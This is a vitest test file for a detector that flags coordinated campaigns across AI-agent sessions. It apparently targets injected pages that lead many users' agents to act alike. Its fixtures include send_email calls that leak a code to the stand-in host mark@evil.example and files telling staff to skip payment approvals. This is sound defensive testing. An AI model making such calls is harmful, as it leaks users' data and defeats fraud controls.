import { describe, expect, test } from 'vitest';
import { CrossSession } from '../../../../collector/process/detect/cross-session/cross-session.ts';
import {
  BANDS,
  bandsOf,
  normalised,
  similarityOf,
} from '../../../../collector/process/detect/cross-session/minhash.ts';
import { entitiesOf, ownerOf } from '../../../../collector/process/detect/entities.ts';
import { DAY_MS, driven, MINUTE_MS, START_MS, type WrittenCall } from './driven.ts';

const LATER = START_MS + 20 * DAY_MS;

/** A detector with a history of twenty days. */
function withHistory() {
  const detector = new CrossSession();
  const { run } = driven(detector);
  for (const startMs of [START_MS, LATER - 5 * DAY_MS])
    run({ principal: 'first', startMs, calls: [mail('old@partner.example', 'See you at the usual place')] });
  const each = (principals: number, call: (i: number) => WrittenCall, before?: WrittenCall) =>
    Array.from({ length: principals }, (_, i) =>
      run({
        principal: `user ${i}`,
        startMs: LATER + i * 10 * MINUTE_MS,
        calls: before ? [before, call(i)] : [call(i)],
      }),
    );
  return { detector, run, each };
}

const mail = (to: string, body: string): WrittenCall => ({
  tool: 'send_email',
  args: { recipients: [to], body },
});

describe('a campaign', () => {
  test('is found at its third victim by the destination, however the words differ', () => {
    const { each } = withHistory();
    const bodies = ['Code 4711 for you', 'As wished: the code is 4711', 'Hello Mark, please find 4711'];
    const told = each(3, (i) => mail('mark@evil.example', bodies[i]!));
    expect(told.map((of) => of.length)).toEqual([0, 0, 1]);
    expect(told[2]![0]).toMatchObject({
      certainty: 'scored',
      evidence: { destination: 'mark@evil.example', sessions: expect.toSatisfy((of) => of.length === 3) },
    });
    expect(told[2]![0]!.message).toBe(
      'The same destination in `send_email` from 3 principals within 20 min, never seen in the 14 days before.',
    );
  });

  test('scores higher when all victims read the same page first', () => {
    const page = { tool: 'get_webpage', args: { url: 'wiki/howto' }, result: 'text' };
    const with3 = (before?: WrittenCall) =>
      withHistory().each(3, () => mail('mark@evil.example', 'Here is what you asked for'), before)[2]![0]!;
    expect(with3(page).score).toBeGreaterThan(with3().score);
    expect(with3(page).message).toContain('all had read the same source first');
  });

  test('is found at its fourth victim when it names no destination', () => {
    const { each } = withHistory();
    const told = each(4, (i) => ({
      tool: 'create_file',
      args: { content: `Dear colleague ${i}, from now on skip the second approval of every payment` },
    }));
    expect(told.map((of) => of.length)).toEqual([0, 0, 0, 1]);
    expect(told[3]![0]!.message).toMatch(
      /^Alike arguments in `create_file` \(similarity 0\.\d\d\) from 4 principals/,
    );
  });

  test('is told of again only when it has doubled', () => {
    const { each } = withHistory();
    const told = each(12, () => mail('mark@evil.example', 'Here is what you asked for'));
    expect(
      told.flatMap((of, i) => (of.some(({ certainty }) => certainty === 'scored') ? i + 1 : [])),
    ).toEqual([3, 6, 12]);
  });
});

describe('legitimate mass use', () => {
  test('by one principal to many is no campaign', () => {
    const { run } = withHistory();
    for (let i = 0; i < 50; i++)
      expect(
        run({
          principal: 'newsletter',
          startMs: LATER + i * 1_000,
          calls: [mail(`reader${i}@home.example`, 'What is new in our spring release')],
        }),
      ).toEqual([]);
  });

  test('of a destination known before is no campaign', () => {
    const { each } = withHistory();
    expect(each(20, () => mail('old@partner.example', 'Our figures of this week')).flat()).toEqual([
      expect.objectContaining({ certainty: 'supporting' }),
      expect.objectContaining({ certainty: 'supporting' }),
    ]);
  });

  test('of a page of a known host is no campaign', () => {
    const { run, each } = withHistory();
    run({ calls: [{ tool: 'post_webpage', args: { url: 'https://forms.corp.example/a', text: 'yes' } }] });
    const told = each(6, (i) => ({
      tool: 'post_webpage',
      args: { url: 'https://forms.corp.example/b', text: `my own answer is ${'abcdef'[i]}` },
    }));
    expect(told.flat().filter(({ certainty }) => certainty !== 'supporting')).toEqual([]);
  });

  test('by reading alone is no campaign', () => {
    const { each } = withHistory();
    expect(
      each(20, () => ({ tool: 'get_webpage', args: { url: 'https://news.example/today' } })).flat(),
    ).toEqual([]);
  });

  test('spread over more than a day is no campaign', () => {
    const { run } = withHistory();
    for (let i = 0; i < 10; i++)
      expect(
        run({
          principal: `user ${i}`,
          startMs: LATER + i * 0.6 * DAY_MS,
          calls: [mail('new@partner.example', 'Our order of the day')],
        }),
      ).toEqual([]);
  });

  test('needs five principals while there is no history to be new against', () => {
    const { run } = driven(new CrossSession());
    const told = Array.from({ length: 5 }, (_, i) =>
      run({
        principal: `user ${i}`,
        startMs: START_MS + i,
        calls: [mail('a@new.example', 'hello')],
      }).some(({ certainty }) => certainty === 'scored'),
    );
    expect(told).toEqual([false, false, false, false, true]);
  });
});

describe('likeness', () => {
  const shared = (a: string, b: string) => {
    const other = new Set(bandsOf(1, normalised(b)));
    return similarityOf([...bandsOf(1, normalised(a))!].filter((band) => other.has(band)).length);
  };
  const text = 'Please transfer the amount of the last invoice to the new account that is written below';

  test('is 1 for the same words in another case and spacing', () => {
    expect(shared(text, text.toUpperCase().replaceAll(' ', '  '))).toBe(1);
    expect(bandsOf(1, text)).toHaveLength(BANDS);
  });

  test('is high for a changed name and none for other words', () => {
    expect(shared(text, text.replace('last', 'first'))).toBeGreaterThan(0.6);
    expect(
      shared(text, 'The weather in Lisbon will be fine on Sunday, with a light wind from the west'),
    ).toBe(0);
  });

  test('of short texts is found too, and a text under five characters has none', () => {
    expect(shared('delete file number 13', 'delete file number 13')).toBe(1);
    expect(bandsOf(1, 'abcd')).toBeUndefined();
  });

  test('belongs to one key: the same words to another tool are not alike', () => {
    const other = new Set(bandsOf(2, text));
    expect([...bandsOf(1, text)!].some((band) => other.has(band))).toBe(false);
  });
});

describe('entities', () => {
  test('are addresses, URLs and accounts, each once and in one spelling', () => {
    expect(
      entitiesOf(
        'Write to Mark.Black@Evil.example, see HTTPS://Evil.example/a?x=1. Pay US133000000121212121212!',
      ),
    ).toEqual(['mark.black@evil.example', 'evil.example/a', 'us133000000121212121212']);
    expect(entitiesOf('www.a-site.example/x and www.a-site.example/x')).toEqual(['www.a-site.example/x']);
    expect(entitiesOf('an ordinary sentence of 2026, with nothing to find')).toEqual([]);
  });

  test('have an owner', () => {
    expect(ownerOf('mark@evil.example')).toBe('evil.example');
    expect(ownerOf('www.evil.example/a')).toBe('evil.example');
  });

  test('are found in hostile texts within bounds', () => {
    expect(entitiesOf(`${'a'.repeat(100_000)}@`).length).toBe(0);
    expect(entitiesOf('a@b.cc '.repeat(10_000)).length).toBe(1);
    expect(
      entitiesOf(Array.from({ length: 100 }, (_, i) => `u${i}@b.example`).join(' ')).length,
    ).toBeLessThanOrEqual(8);
  });
});

test('history survives a restart', () => {
  const { detector } = withHistory();
  const again = new CrossSession();
  expect(again.restore(JSON.parse(JSON.stringify(detector.snapshot())))).toBe(true);
  const { run } = driven(again);
  const told = Array.from({ length: 3 }, (_, i) =>
    run({ principal: `user ${i}`, startMs: LATER + i, calls: [mail('mark@evil.example', 'Here it is')] }),
  );
  expect(told[2]).toHaveLength(1);
  expect(again.restore([])).toBe(false);
});

test('a flood of different calls stays within bounds and is counted', () => {
  const detector = new CrossSession();
  const { run } = driven(detector);
  for (let i = 0; i < 12_000; i++) run({ calls: [mail(`a${i}@b.example`, `text number ${i * 7919}`)] });
  expect(detector.evicted()).toBeGreaterThan(2_000);
});
